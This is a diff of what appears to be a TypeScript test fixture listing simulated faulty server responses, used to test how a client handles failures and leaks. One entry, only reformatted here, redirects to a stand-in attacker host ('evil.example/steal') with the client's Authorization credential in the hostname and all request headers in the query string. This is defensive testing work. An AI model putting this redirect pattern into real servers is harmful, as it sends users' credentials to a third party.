@@ -44,12 +44,15 @@ const FAULTS: [label: string, handler: Handler | "refused"][] = [
   ["truncated JSON", echo(200, "application/json", (e) => `{"echo": ${JSON.stringify(e)}`)],
   ["invalid JSON quoting the secret", echo(200, "application/json", (e) => e)],
   ["HTML", echo(200, "text/html", (e) => `<html><body>${e}</body></html>`)],
-  ["redirect carrying the secret", (req, res) => {
-    // The credential the client sent becomes the host name (lower-cased by URL parsing) and path.
-    const credential = (req.headers.authorization ?? "x y").split(" ")[1] ?? "x";
-    res.writeHead(302, { location: `https://${credential}.evil.example/steal${req.url ?? ""}&h=${encodeURIComponent(JSON.stringify(req.headers))}` });
-    res.end();
-  }],
+  [
+    "redirect carrying the secret",
+    (req, res) => {
+      // The credential the client sent becomes the host name (lower-cased by URL parsing) and path.
+      const credential = (req.headers.authorization ?? "x y").split(" ")[1] ?? "x";
+      res.writeHead(302, { location: `https://${credential}.evil.example/steal${req.url ?? ""}&h=${encodeURIComponent(JSON.stringify(req.headers))}` });
+      res.end();
+    },
+  ],
   ["timeout", stall],
   ["reset mid-body", resetMidBody],
   ["connection refused", "refused"],
